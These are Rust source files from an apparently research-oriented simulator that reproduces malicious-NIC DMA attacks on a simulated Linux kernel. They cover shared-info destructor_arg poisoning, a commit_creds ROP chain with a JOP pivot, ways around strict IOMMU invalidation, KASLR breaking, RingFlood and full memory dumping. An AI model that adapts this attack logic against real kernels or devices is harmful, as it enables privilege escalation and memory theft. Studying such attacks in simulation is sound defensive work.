        outcome,
        leaked_op_kva: Kva(op_kva),
        recovered_text_base: text_base,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    #[test]
    fn single_step_attack_escalates_in_one_shot() {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(1234),
            ..Default::default()
        });
        let image = KernelImage::build(1, 16 << 20);
        mem.install_text(&image.bytes);
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(7);
        let nic = MaliciousNic::new(7);
        let (_op, mapping) = driver_setup_op(&mut ctx, &mut mem, &mut iommu, &image, 7).unwrap();
        let report = run(&mut ctx, &mut mem, &mut iommu, &image, &nic, &mapping).unwrap();
        assert!(report.outcome.succeeded(), "outcome: {:?}", report.outcome);
        assert_eq!(report.recovered_text_base, mem.layout.text_base);
    }

    #[test]
    fn benign_completion_without_attack_is_harmless() {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig {
            kaslr_seed: Some(9),
            ..Default::default()
        });
        let image = KernelImage::build(1, 16 << 20);
        mem.install_text(&image.bytes);
        let mut iommu = Iommu::new(IommuConfig::default());
        iommu.attach_device(7);
        let (op, _mapping) = driver_setup_op(&mut ctx, &mut mem, &mut iommu, &image, 7).unwrap();
        let pending = driver_complete_op(&mut ctx, &mem, op).unwrap();
        let cpu = MiniCpu::new(&image, mem.layout.text_base);
        let out = cpu
            .invoke_callback(&mut ctx, &mem, pending.callback, pending.arg)
            .unwrap();
        assert!(!out.escalated);
        assert_eq!(out.entry_symbol, Some("nvme_fc_fcpio_done"));
    }
}
