//! A synthetic kernel image: instruction-like bytes, a symbol table, and
//! planted gadgets.
//!
//! The attacker is assumed (as in §6) to possess an identical build of
//! the victim kernel: symbol and gadget *offsets* are build constants;
//! KASLR only shifts the load base. [`KernelImage::build`] is therefore
//! used twice — once installed into the victim's text mapping, once as
//! the attacker's reference copy for offline gadget scanning.

use dma_core::{DetRng, Kva};

/// Offset of the `init_net` network-namespace object within the image
/// (data section). Mirrors `sim_net::stack::INIT_NET_IMAGE_OFFSET`.
pub const INIT_NET_OFFSET: u64 = 0x00e8_a940;

/// Displacement used by the planted stack-pivot gadget:
/// `lea rsp, [rdi + JOP_PIVOT_DISP]; ret`. Chosen to skip past the
/// 24-byte `ubuf_info` at the head of the poisoned buffer.
pub const JOP_PIVOT_DISP: u8 = 0x20;

/// A named location in the image.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Symbol {
    /// Symbol name.
    pub name: &'static str,
    /// Byte offset within the image.
    pub offset: u64,
}

/// The synthetic kernel image.
#[derive(Clone, Debug)]
pub struct KernelImage {
    /// Raw bytes (text + data).
    pub bytes: Vec<u8>,
    /// Symbol table, sorted by offset.
    pub symbols: Vec<Symbol>,
}

/// The symbols every build contains, with their encodings. Offsets are
/// derived deterministically from the build seed.
const PLANTED: &[(&str, &[u8])] = &[
    // lea rsp, [rdi+0x20]; ret — the JOP pivot of §6.
    ("jop_rsp_rdi", &[0x48, 0x8d, 0x67, JOP_PIVOT_DISP, 0xc3]),
    // pop rdi; ret
    ("pop_rdi_ret", &[0x5f, 0xc3]),
    // mov rdi, rax; ret
    ("mov_rdi_rax_ret", &[0x48, 0x89, 0xc7, 0xc3]),
    // Functions: bodies are irrelevant (semantics live in the mini CPU);
    // give them a realistic prologue.
    ("prepare_kernel_cred", &[0x55, 0x48, 0x89, 0xe5, 0x5d, 0xc3]),
    ("commit_creds", &[0x55, 0x48, 0x89, 0xe5, 0x5d, 0xc3]),
    ("rop_exit", &[0xc3]),
    (
        "sock_zerocopy_callback",
        &[0x55, 0x48, 0x89, 0xe5, 0x5d, 0xc3],
    ),
    ("nvme_fc_fcpio_done", &[0x55, 0x48, 0x89, 0xe5, 0x5d, 0xc3]),
];

impl KernelImage {
    /// Builds an image of `size` bytes from a build seed.
    ///
    /// Filler bytes are chosen to look like code but to avoid
    /// accidentally encoding the planted gadget patterns.
    pub fn build(seed: u64, size: usize) -> Self {
        assert!(
            size as u64 > INIT_NET_OFFSET + 4096,
            "image too small for data section"
        );
        let mut rng = DetRng::new(seed ^ 0x6b65_726e_656c);
        let mut bytes = vec![0u8; size];
        // Fill the text portion with nop/int3-heavy junk: realistic
        // enough for a scanner, guaranteed gadget-free.
        for b in bytes.iter_mut() {
            *b = match rng.below(4) {
                0 => 0x90, // nop
                1 => 0xcc, // int3
                2 => 0x00,
                _ => (rng.below(0x40) as u8) | 0x80, // non-gadget opcodes
            };
        }

        // Plant the symbols at deterministic pseudorandom, non-overlapping
        // offsets in the first half of the image (text).
        let mut symbols = Vec::new();
        let mut cursor = 0x1000u64;
        for (name, encoding) in PLANTED {
            // Stride between 32 KiB and 256 KiB.
            cursor += 0x8000 + rng.below(0x38000);
            cursor &= !0xf; // 16-byte align functions, like the kernel
            let off = cursor as usize;
            bytes[off..off + encoding.len()].copy_from_slice(encoding);
            symbols.push(Symbol {
                name,
                offset: cursor,
            });
            cursor += encoding.len() as u64;
        }
        // The init_net data object: recognizable non-pointer content.
        symbols.push(Symbol {
            name: "init_net",
            offset: INIT_NET_OFFSET,
        });
        let off = INIT_NET_OFFSET as usize;
        bytes[off..off + 8].copy_from_slice(&0x6e65_745f_6e73_3030u64.to_le_bytes());

        symbols.sort_by_key(|s| s.offset);
        KernelImage { bytes, symbols }
    }

    /// Looks up a symbol's offset.
    pub fn symbol_offset(&self, name: &str) -> Option<u64> {
        self.symbols
            .iter()
            .find(|s| s.name == name)
            .map(|s| s.offset)
    }

    /// Run-time address of a symbol for a given (possibly randomized)
    /// text base.
    pub fn symbol_addr(&self, name: &str, text_base: Kva) -> Option<Kva> {
        Some(Kva(text_base.raw() + self.symbol_offset(name)?))
    }

    /// Reverse lookup: the symbol starting exactly at `offset`.
    pub fn symbol_at(&self, offset: u64) -> Option<&'static str> {
        self.symbols
            .iter()
            .find(|s| s.offset == offset)
            .map(|s| s.name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_is_deterministic_per_seed() {
        let a = KernelImage::build(1, 16 << 20);
        let b = KernelImage::build(1, 16 << 20);
        assert_eq!(a.bytes, b.bytes);
        assert_eq!(a.symbols, b.symbols);
        let c = KernelImage::build(2, 16 << 20);
        assert_ne!(a.symbols, c.symbols);
    }

    #[test]
    fn all_planted_symbols_resolve() {
        let img = KernelImage::build(7, 16 << 20);
        for (name, enc) in PLANTED {
            let off = img.symbol_offset(name).unwrap() as usize;
            assert_eq!(&img.bytes[off..off + enc.len()], *enc, "{name} bytes");
        }
        assert_eq!(img.symbol_offset("init_net"), Some(INIT_NET_OFFSET));
    }

    #[test]
    fn symbol_addr_applies_base() {
        let img = KernelImage::build(7, 16 << 20);
        let base = Kva(0xffff_ffff_8120_0000);
        let a = img.symbol_addr("pop_rdi_ret", base).unwrap();
        assert_eq!(
            a.raw() - base.raw(),
            img.symbol_offset("pop_rdi_ret").unwrap()
        );
        assert!(img.symbol_addr("no_such_symbol", base).is_none());
    }

    #[test]
    fn symbols_do_not_overlap() {
        let img = KernelImage::build(3, 16 << 20);
        for w in img.symbols.windows(2) {
            assert!(
                w[1].offset > w[0].offset + 8,
                "{:?} overlaps {:?}",
                w[0],
                w[1]
            );
        }
    }
}
