//! Acquiring the time window (attribute 3, §3.3) via the three paths of
//! Figure 7.
//!
//! In every path the goal is the same: get a device write into
//! `skb_shared_info` to land *after* the CPU initializes it during
//! sk_buff construction (which zeroes `destructor_arg`) and *before*
//! `kfree_skb` consumes it.
//!
//! - **(i)** the driver builds the skb before unmapping (i40e style):
//!   the original mapping is simply still live.
//! - **(ii)** deferred IOTLB invalidation: the driver unmapped first,
//!   but the device's stale IOTLB entry still translates.
//! - **(iii)** strict mode: the original IOVA is dead, but a co-located
//!   page_frag buffer's IOVA (type (c)) still maps the same page; the
//!   device re-bases the shared info's page offset onto that mapping.

use devsim::{MaliciousNic, Testbed};
use dma_core::vuln::WindowPath;
use dma_core::{DmaError, Iova, Result};
use sim_net::packet::Packet;
use sim_net::skb::SkBuff;

/// Injects `packet` into the head RX buffer, completes it, and polls it
/// through the driver while applying `poison` — a device write targeting
/// the polled buffer's shared info — through the chosen window path.
///
/// Returns the resulting skb (not yet passed to the stack) and whether
/// the poison write succeeded.
pub fn rx_with_window(
    tb: &mut Testbed,
    path: WindowPath,
    packet: &Packet,
    poison: &PoisonPlan,
) -> Result<(SkBuff, bool)> {
    let descs = tb.driver.rx_descriptors();
    let (head_iova, buf_size) = *descs.first().ok_or(DmaError::RingEmpty)?;
    // The partner descriptor for path (iii): the next posted buffer that
    // shares the head's physical page (successive page_frag carvings).
    let partner_iova = descs.get(1).map(|d| d.0);

    let n = tb.nic.inject_rx(
        &mut tb.ctx,
        &mut tb.iommu,
        &mut tb.mem.phys,
        head_iova,
        packet,
    )?;
    tb.driver.device_rx_complete(n)?;

    let nic = tb.nic;
    let mut poisoned = false;
    let skb = tb
        .driver
        .rx_poll(
            &mut tb.ctx,
            &mut tb.mem,
            &mut tb.iommu,
            |ctx, mem, iommu, slot| {
                // This closure runs in the window between the driver's two
                // completion steps. What the device can do here depends on
                // the path.
                let target = match path {
                    // (i)/(ii): write through the buffer's own IOVA. Under
                    // (i) the mapping is live; under (ii) it is a stale
                    // IOTLB entry; under strict+correct order it faults.
                    WindowPath::UnmapAfterBuild | WindowPath::DeferredIotlb => slot.mapping.iova,
                    // (iii): re-base onto the partner's live mapping.
                    WindowPath::NeighborIova => {
                        let Some(partner) = partner_iova else { return };
                        let shinfo_abs = Iova(slot.mapping.iova.raw() + buf_size as u64);
                        match nic.alias_through_neighbor(shinfo_abs, partner) {
                            Some(alias) => {
                                // alias already points at the shinfo offset.
                                poisoned = poison.write_at(ctx, mem, iommu, &nic, alias, 0).is_ok();
                                return;
                            }
                            None => return,
                        }
                    }
                };
                poisoned = poison
                    .write_at(ctx, mem, iommu, &nic, target, buf_size)
                    .is_ok();
            },
        )?
        .ok_or(DmaError::RingEmpty)?;
    Ok((skb, poisoned))
}

/// What the device writes into the shared info once it has a window:
/// `destructor_arg = poison_kva`.
#[derive(Clone, Copy, Debug)]
pub struct PoisonPlan {
    /// The (guessed or learned) KVA of the poisoned `ubuf_info`.
    pub poison_kva: u64,
}

impl PoisonPlan {
    /// Performs the shared-info write at `base_iova + shinfo_offset`.
    pub fn write_at(
        &self,
        ctx: &mut dma_core::SimCtx,
        mem: &mut sim_mem::MemorySystem,
        iommu: &mut sim_iommu::Iommu,
        nic: &MaliciousNic,
        base_iova: Iova,
        shinfo_offset: usize,
    ) -> Result<()> {
        nic.overwrite_destructor_arg(
            ctx,
            iommu,
            &mut mem.phys,
            Iova(base_iova.raw() + shinfo_offset as u64),
            self.poison_kva,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use devsim::testbed::TestbedConfig;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_net::driver::{DriverConfig, UnmapOrder};

    fn tb(mode: InvalidationMode, order: UnmapOrder) -> Testbed {
        Testbed::new(TestbedConfig {
            iommu: IommuConfig {
                mode,
                ..Default::default()
            },
            driver: DriverConfig {
                unmap_order: order,
                ..Default::default()
            },
            ..Default::default()
        })
        .unwrap()
    }

    fn try_path(tb: &mut Testbed, path: WindowPath) -> bool {
        let plan = PoisonPlan {
            poison_kva: 0xffff_8880_0bad_0000,
        };
        let p = Packet::udp(9, 1, b"win".to_vec());
        let (skb, ok) = rx_with_window(tb, path, &p, &plan).unwrap();
        if !ok {
            return false;
        }
        // Verify the write actually landed in the skb's shared info.
        let got = skb.shinfo().destructor_arg(&mut tb.ctx, &tb.mem).unwrap();
        got == plan.poison_kva
    }

    #[test]
    fn path_i_bad_unmap_order_works_even_in_strict_mode() {
        let mut t = tb(InvalidationMode::Strict, UnmapOrder::BuildThenUnmap);
        assert!(try_path(&mut t, WindowPath::UnmapAfterBuild));
    }

    #[test]
    fn path_ii_deferred_iotlb_works_despite_correct_order() {
        let mut t = tb(InvalidationMode::Deferred, UnmapOrder::UnmapThenBuild);
        assert!(try_path(&mut t, WindowPath::DeferredIotlb));
    }

    #[test]
    fn path_ii_fails_in_strict_mode_with_correct_order() {
        let mut t = tb(InvalidationMode::Strict, UnmapOrder::UnmapThenBuild);
        assert!(!try_path(&mut t, WindowPath::DeferredIotlb));
    }

    #[test]
    fn path_iii_neighbor_iova_defeats_strict_mode() {
        // §5.2.2 (iii): strict mode + correct order, but page_frag page
        // sharing leaves the partner's mapping usable.
        let mut t = tb(InvalidationMode::Strict, UnmapOrder::UnmapThenBuild);
        assert!(try_path(&mut t, WindowPath::NeighborIova));
    }

    #[test]
    fn path_iii_fails_with_page_per_buffer_policy() {
        use sim_net::driver::AllocPolicy;
        let mut t = Testbed::new(TestbedConfig {
            iommu: IommuConfig {
                mode: InvalidationMode::Strict,
                ..Default::default()
            },
            driver: DriverConfig {
                unmap_order: UnmapOrder::UnmapThenBuild,
                alloc: AllocPolicy::PagePerBuffer,
                ..Default::default()
            },
            ..Default::default()
        })
        .unwrap();
        assert!(!try_path(&mut t, WindowPath::NeighborIova));
    }
}
