//! The common final stage of every code-injection attack (Figure 4):
//! deposit the poison, point `destructor_arg` at it, let the CPU free
//! the skb, and observe the outcome.

use crate::cpu::{CpuOutcome, MiniCpu};
use crate::rop::PoisonedBuffer;
use devsim::MaliciousNic;
use dma_core::vuln::AttackOutcome;
use dma_core::{Iova, Kva, Result, SimCtx};
use sim_iommu::Iommu;
use sim_mem::MemorySystem;
use sim_net::skb::PendingCallback;

/// Deposits a poisoned buffer into a device-writable mapping at
/// `iova + offset` (Figure 4 steps (b)/(c)).
pub fn deposit_poison(
    nic: &MaliciousNic,
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    mem: &mut MemorySystem,
    iova: Iova,
    offset: usize,
    poison: &PoisonedBuffer,
) -> Result<()> {
    nic.deposit(ctx, iommu, &mut mem.phys, iova, offset, &poison.bytes)
}

/// Points a shared info's `destructor_arg` at the poisoned buffer's
/// (guessed or learned) KVA.
pub fn point_destructor_arg(
    nic: &MaliciousNic,
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    mem: &mut MemorySystem,
    shinfo_iova: Iova,
    poison_kva: Kva,
) -> Result<()> {
    nic.overwrite_destructor_arg(
        ctx,
        iommu,
        &mut mem.phys,
        shinfo_iova,
        PoisonedBuffer::destructor_arg_for(poison_kva),
    )
}

/// Fires a pending callback on the CPU model and classifies the result
/// (Figure 4 step (d)).
pub fn fire(
    cpu: &MiniCpu<'_>,
    ctx: &mut SimCtx,
    mem: &MemorySystem,
    pending: PendingCallback,
    steps: usize,
) -> AttackOutcome {
    match cpu.invoke_callback(ctx, mem, pending.callback, pending.arg) {
        Ok(CpuOutcome {
            escalated: true, ..
        }) => AttackOutcome::CodeExecution {
            hijacked_callback: pending.callback,
            steps,
        },
        Ok(_) => AttackOutcome::Blocked("callback ran but did not escalate"),
        Err(_) => AttackOutcome::Blocked("CPU faulted on hijacked callback (oops, not pwn)"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::KernelImage;
    use sim_mem::MemConfig;

    #[test]
    fn fire_classifies_all_three_outcomes() {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let image = KernelImage::build(1, 16 << 20);
        mem.install_text(&image.bytes);
        let cpu = MiniCpu::new(&image, mem.layout.text_base);

        // 1. A benign callback: ran, did not escalate.
        let benign = image
            .symbol_addr("sock_zerocopy_callback", mem.layout.text_base)
            .unwrap();
        let out = fire(
            &cpu,
            &mut ctx,
            &mem,
            PendingCallback {
                callback: benign,
                arg: Kva(0x100),
            },
            1,
        );
        assert_eq!(
            out,
            AttackOutcome::Blocked("callback ran but did not escalate")
        );

        // 2. A data-pointer callback: NX fault → oops, not pwn.
        let data = mem.kzalloc(&mut ctx, 64, "d").unwrap();
        let out = fire(
            &cpu,
            &mut ctx,
            &mem,
            PendingCallback {
                callback: data,
                arg: data,
            },
            1,
        );
        assert_eq!(
            out,
            AttackOutcome::Blocked("CPU faulted on hijacked callback (oops, not pwn)")
        );

        // 3. The real thing: pivot + chain → code execution.
        let knowledge = crate::kaslr::AttackerKnowledge {
            text_base: Some(mem.layout.text_base),
            page_offset_base: Some(mem.layout.page_offset_base),
            vmemmap_base: Some(mem.layout.vmemmap_base),
        };
        let poison = PoisonedBuffer::build(&image, &knowledge).unwrap();
        let buf = mem.kzalloc(&mut ctx, 512, "payload").unwrap();
        mem.cpu_write(&mut ctx, buf, &poison.bytes, "t").unwrap();
        let jop = image
            .symbol_addr("jop_rsp_rdi", mem.layout.text_base)
            .unwrap();
        let out = fire(
            &cpu,
            &mut ctx,
            &mem,
            PendingCallback {
                callback: jop,
                arg: buf,
            },
            3,
        );
        assert_eq!(
            out,
            AttackOutcome::CodeExecution {
                hijacked_callback: jop,
                steps: 3
            }
        );
    }
}
