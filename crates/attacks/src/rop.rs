//! Poisoned-buffer construction.
//!
//! The malicious buffer the attacks plant (in an RX ring buffer, an
//! echoed payload, or a forwarded segment) has a fixed shape:
//!
//! ```text
//! +0x00  ubuf_info { callback = &jop_rsp_rdi, ctx, desc }
//! +0x18  (pad)
//! +0x20  ROP chain:  pop rdi; ret
//!                    0                       (NULL)
//!                    prepare_kernel_cred
//!                    mov rdi, rax; ret
//!                    commit_creds
//!                    rop_exit
//! ```
//!
//! `destructor_arg` is pointed at +0x00; the kernel calls
//! `callback(%rdi = +0x00)`; the JOP pivot sets `%rsp = %rdi + 0x20` and
//! the chain runs. All embedded addresses are kernel-text symbols, so
//! the buffer is position-independent: only `destructor_arg` needs the
//! buffer's own KVA.

use crate::image::{KernelImage, JOP_PIVOT_DISP};
use crate::kaslr::AttackerKnowledge;
use dma_core::{DmaError, Kva, Result};

/// Total size of the poisoned buffer content.
pub const POISON_SIZE: usize = JOP_PIVOT_DISP as usize + 6 * 8;

/// A built poisoned buffer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PoisonedBuffer {
    /// The bytes to deposit.
    pub bytes: Vec<u8>,
}

impl PoisonedBuffer {
    /// Builds the buffer for a kernel whose text base the attacker has
    /// recovered.
    pub fn build(image: &KernelImage, knowledge: &AttackerKnowledge) -> Result<Self> {
        let sym = |name: &str| -> Result<u64> {
            let off = image
                .symbol_offset(name)
                .ok_or(DmaError::AttackFailed("required symbol missing from image"))?;
            Ok(knowledge.rebase(off)?.raw())
        };
        Self::build_raw(
            sym("jop_rsp_rdi")?,
            &[
                sym("pop_rdi_ret")?,
                0,
                sym("prepare_kernel_cred")?,
                sym("mov_rdi_rax_ret")?,
                sym("commit_creds")?,
                sym("rop_exit")?,
            ],
        )
    }

    /// Builds from explicit addresses (tests, ablations).
    pub fn build_raw(jop_callback: u64, chain: &[u64]) -> Result<Self> {
        let mut bytes = vec![0u8; JOP_PIVOT_DISP as usize + chain.len() * 8];
        bytes[0..8].copy_from_slice(&jop_callback.to_le_bytes()); // ubuf_info.callback
                                                                  // ctx (+8) and desc (+16) stay zero.
        for (i, w) in chain.iter().enumerate() {
            let off = JOP_PIVOT_DISP as usize + i * 8;
            bytes[off..off + 8].copy_from_slice(&w.to_le_bytes());
        }
        Ok(PoisonedBuffer { bytes })
    }

    /// `destructor_arg` value for a buffer deposited at `buffer_kva`.
    pub fn destructor_arg_for(buffer_kva: Kva) -> u64 {
        buffer_kva.raw()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::layout::VmRegion;

    fn knowledge_at(text_base: u64) -> AttackerKnowledge {
        AttackerKnowledge {
            text_base: Some(Kva(text_base)),
            page_offset_base: Some(Kva(VmRegion::DirectMap.start())),
            vmemmap_base: Some(Kva(VmRegion::Vmemmap.start())),
        }
    }

    #[test]
    fn built_buffer_embeds_rebased_symbols() {
        let img = KernelImage::build(1, 16 << 20);
        let base = VmRegion::KernelText.start() + 5 * 0x20_0000;
        let pb = PoisonedBuffer::build(&img, &knowledge_at(base)).unwrap();
        assert_eq!(pb.bytes.len(), POISON_SIZE);
        let cb = u64::from_le_bytes(pb.bytes[0..8].try_into().unwrap());
        assert_eq!(cb, base + img.symbol_offset("jop_rsp_rdi").unwrap());
        let first_ret = u64::from_le_bytes(
            pb.bytes[JOP_PIVOT_DISP as usize..JOP_PIVOT_DISP as usize + 8]
                .try_into()
                .unwrap(),
        );
        assert_eq!(first_ret, base + img.symbol_offset("pop_rdi_ret").unwrap());
    }

    #[test]
    fn build_fails_without_text_base() {
        let img = KernelImage::build(1, 16 << 20);
        let k = AttackerKnowledge::new();
        assert!(PoisonedBuffer::build(&img, &k).is_err());
    }

    #[test]
    fn buffer_is_position_independent() {
        let img = KernelImage::build(1, 16 << 20);
        let k = knowledge_at(VmRegion::KernelText.start());
        let a = PoisonedBuffer::build(&img, &k).unwrap();
        let b = PoisonedBuffer::build(&img, &k).unwrap();
        assert_eq!(a, b);
        // Only destructor_arg depends on placement.
        assert_eq!(PoisonedBuffer::destructor_arg_for(Kva(0x1000)), 0x1000);
    }
}
