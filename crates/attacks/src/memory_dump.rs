//! Full memory dump (§3.1: "a full memory dump is possible when an
//! attacker can modify data pointers before they are mapped, causing the
//! driver to map arbitrary kernel addresses") — the Inception/Volatility
//! class of attack (§2.1), rebuilt on the Forward Thinking surveillance
//! primitive.
//!
//! Each forged-frag forwarding round maps one arbitrary frame for READ;
//! iterating over the PFN range exfiltrates all of physical memory.

use crate::forward_thinking::surveil;
use crate::kaslr::AttackerKnowledge;
use devsim::Testbed;
use dma_core::{Pfn, Result, PAGE_SIZE};

/// A captured dump segment.
#[derive(Clone, Debug)]
pub struct DumpReport {
    /// First frame captured.
    pub start: Pfn,
    /// The captured bytes (`frames × PAGE_SIZE`).
    pub bytes: Vec<u8>,
    /// Frames that could not be read (holes).
    pub failed_frames: Vec<Pfn>,
    /// Simulated cycles the exfiltration took.
    pub cycles: u64,
}

impl DumpReport {
    /// Number of frames captured (including failed ones as zero-filled).
    pub fn frames(&self) -> usize {
        self.bytes.len() / PAGE_SIZE
    }

    /// View of one captured frame.
    pub fn frame(&self, index: usize) -> &[u8] {
        &self.bytes[index * PAGE_SIZE..(index + 1) * PAGE_SIZE]
    }
}

/// Dumps `frames` frames starting at `start` through the surveillance
/// channel. Requires a forwarding-enabled testbed and complete KASLR
/// knowledge (see [`crate::ringflood::break_kaslr`] and
/// [`crate::forward_thinking::leak_vmemmap`]).
pub fn dump_range(
    tb: &mut Testbed,
    knowledge: &AttackerKnowledge,
    start: Pfn,
    frames: usize,
) -> Result<DumpReport> {
    let t0 = tb.ctx.clock.now();
    let mut bytes = Vec::with_capacity(frames * PAGE_SIZE);
    let mut failed_frames = Vec::new();
    for i in 0..frames {
        let pfn = Pfn(start.raw() + i as u64);
        // A page read is split in two frags-sized chunks? One surveil
        // round reads up to a full page (one frag).
        match surveil(tb, knowledge, pfn, 0, PAGE_SIZE as u32) {
            Ok(r) if r.stolen.len() == PAGE_SIZE => bytes.extend_from_slice(&r.stolen),
            Ok(r) => {
                let mut padded = r.stolen;
                padded.resize(PAGE_SIZE, 0);
                bytes.extend_from_slice(&padded);
            }
            Err(_) => {
                failed_frames.push(pfn);
                bytes.extend_from_slice(&[0u8; PAGE_SIZE]);
            }
        }
    }
    Ok(DumpReport {
        start,
        bytes,
        failed_frames,
        cycles: tb.ctx.clock.now() - t0,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forward_thinking::{boot, leak_vmemmap};
    use crate::image::KernelImage;
    use crate::ringflood::break_kaslr;
    use dma_core::vuln::WindowPath;
    use dma_core::Kva;

    fn armed_testbed() -> (Testbed, AttackerKnowledge) {
        let image = KernelImage::build(1, 16 << 20);
        let mut tb = boot(WindowPath::UnmapAfterBuild, 77).unwrap();
        tb.mem.install_text(&image.bytes);
        let k = break_kaslr(&mut tb).unwrap();
        let k = leak_vmemmap(&mut tb, &k).unwrap();
        (tb, k)
    }

    #[test]
    fn dump_captures_planted_content_across_frames() {
        let (mut tb, k) = armed_testbed();
        // Plant recognizable content across 3 contiguous frames.
        let buf = tb.mem.kmalloc(&mut tb.ctx, 8192, "vault").unwrap();
        for i in 0..2u64 {
            tb.mem
                .cpu_write(
                    &mut tb.ctx,
                    Kva(buf.raw() + i * 4096 + 7),
                    format!("frame-{i}").as_bytes(),
                    "vault",
                )
                .unwrap();
        }
        let start = tb.mem.layout.kva_to_pfn(buf).unwrap();
        let dump = dump_range(&mut tb, &k, start, 2).unwrap();
        assert_eq!(dump.frames(), 2);
        assert!(dump.failed_frames.is_empty());
        assert_eq!(&dump.frame(0)[7..14], b"frame-0");
        assert_eq!(&dump.frame(1)[7..14], b"frame-1");
        assert!(dump.cycles > 0);
    }

    #[test]
    fn dump_survives_unreadable_frames() {
        let (mut tb, k) = armed_testbed();
        // Frames beyond physical memory fail; the dump records holes
        // instead of aborting.
        let max = tb.mem.layout.max_pfn();
        let dump = dump_range(&mut tb, &k, Pfn(max.raw() - 1), 3).unwrap();
        assert_eq!(dump.frames(), 3);
        assert_eq!(dump.failed_frames.len(), 2);
    }

    #[test]
    fn dump_throughput_is_macroscopic() {
        // Each frame costs a full forwarded-packet round trip — the dump
        // is slow but steady, as the paper's "persistent surveillance"
        // framing implies.
        let (mut tb, k) = armed_testbed();
        let dump = dump_range(&mut tb, &k, Pfn(0x400), 8).unwrap();
        assert_eq!(dump.frames(), 8);
        let per_frame = dump.cycles / 8;
        assert!(per_frame > 1000, "per-frame cost {per_frame} cycles");
    }
}
