//! The RingFlood compound attack (§5.3).
//!
//! Missing attribute: the KVA of a buffer the device can poison. The
//! device has *IOVAs* for every RX buffer but no KVAs. RingFlood closes
//! the gap with boot determinism:
//!
//! 1. **Offline**: the attacker profiles an identical machine over many
//!    reboots and finds the PFN that most often backs the RX ring.
//! 2. **Online**: leaked pointers on a readable mapped page (slab
//!    freelist pointers → `page_offset_base`, a socket's `init_net` →
//!    text base) break KASLR.
//! 3. The device floods *every* RX buffer with the poisoned `ubuf_info` +
//!    ROP chain at a fixed in-buffer offset, and points every buffer's
//!    `destructor_arg` at `page_offset_base + (guessed_pfn << 12) +
//!    (buffer's own page offset + poison offset)`. If the guessed frame
//!    hosts *any* flooded buffer at a matching offset, whichever skb the
//!    kernel frees first takes the bait.

use crate::cpu::MiniCpu;
use crate::image::KernelImage;
use crate::kaslr::AttackerKnowledge;
use crate::rop::PoisonedBuffer;
use crate::window::{rx_with_window, PoisonPlan};
use devsim::testbed::{MemConfigLite, TestbedConfig};
use devsim::Testbed;
use dma_core::vuln::{AttackOutcome, WindowPath};
use dma_core::{DmaError, Pfn, Result, PAGE_MASK, PAGE_SHIFT};
use sim_iommu::{InvalidationMode, IommuConfig};
use sim_net::driver::{AllocPolicy, DriverConfig, UnmapOrder};
use sim_net::packet::Packet;
use sim_net::stack::StackConfig;
use std::collections::HashMap;

/// In-buffer offset at which the flood deposits the poison. Chosen to
/// clear the headroom + any small packet, and to stay below the shared
/// info for 2 KiB buffers.
pub const POISON_OFFSET: usize = 1024;

/// Driver profile matching the paper's kernel-5.0 mlx5 configuration:
/// 2 KiB page_frag buffers (HW LRO disabled).
pub fn kernel50_driver() -> DriverConfig {
    DriverConfig {
        name: "mlx5_core-5.0",
        rx_buf_size: 2048,
        alloc: AllocPolicy::PageFrag,
        map_ctrl_block: true,
        ..Default::default()
    }
}

/// Driver profile matching the kernel-4.15 configuration: HW LRO on,
/// 64 KiB buffers — a much larger, more predictable footprint.
pub fn kernel415_driver() -> DriverConfig {
    DriverConfig {
        name: "mlx5_core-4.15",
        rx_buf_size: 65536,
        alloc: AllocPolicy::Kmalloc,
        map_ctrl_block: true,
        ..Default::default()
    }
}

/// Boots a victim/profiling machine for boot seed `seed`.
pub fn boot(driver: DriverConfig, window: WindowPath, seed: u64) -> Result<Testbed> {
    let driver = DriverConfig {
        unmap_order: match window {
            WindowPath::UnmapAfterBuild => UnmapOrder::BuildThenUnmap,
            _ => UnmapOrder::UnmapThenBuild,
        },
        ..driver
    };
    let iommu = IommuConfig {
        mode: match window {
            WindowPath::DeferredIotlb => InvalidationMode::Deferred,
            _ => InvalidationMode::Strict,
        },
        ..Default::default()
    };
    Testbed::new(TestbedConfig {
        device: Default::default(),
        mem: MemConfigLite {
            kaslr_seed: Some(seed.wrapping_mul(0x9e37) ^ 0x4a51),
            ..Default::default()
        },
        iommu,
        driver,
        stack: StackConfig::default(),
        boot_noise_seed: Some(seed),
    })
}

/// Result of the §5.3 reboot survey.
#[derive(Clone, Debug)]
pub struct BootSurvey {
    /// Number of simulated reboots.
    pub boots: usize,
    /// How many boots each PFN backed an RX buffer in.
    pub freq: HashMap<u64, u32>,
}

impl BootSurvey {
    /// Profiles `boots` reboots of an identical setup (seeds
    /// `base_seed..base_seed+boots`).
    pub fn run(driver: DriverConfig, boots: usize, base_seed: u64) -> Result<BootSurvey> {
        let mut freq: HashMap<u64, u32> = HashMap::new();
        for i in 0..boots {
            let tb = boot(driver, WindowPath::NeighborIova, base_seed + i as u64)?;
            let mut seen = std::collections::HashSet::new();
            for slot in tb.driver.posted_slots() {
                let pfn = tb.mem.layout.kva_to_pfn(slot.mapping.kva)?;
                for p in 0..slot.mapping.pages as u64 {
                    seen.insert(pfn.raw() + p);
                }
            }
            for pfn in seen {
                *freq.entry(pfn).or_insert(0) += 1;
            }
        }
        Ok(BootSurvey { boots, freq })
    }

    /// The PFN seen in the most boots, with its repeat fraction.
    pub fn most_common(&self) -> Option<(Pfn, f64)> {
        self.freq
            .iter()
            .max_by_key(|(pfn, count)| (**count, u64::MAX - **pfn))
            .map(|(pfn, count)| (Pfn(*pfn), *count as f64 / self.boots as f64))
    }

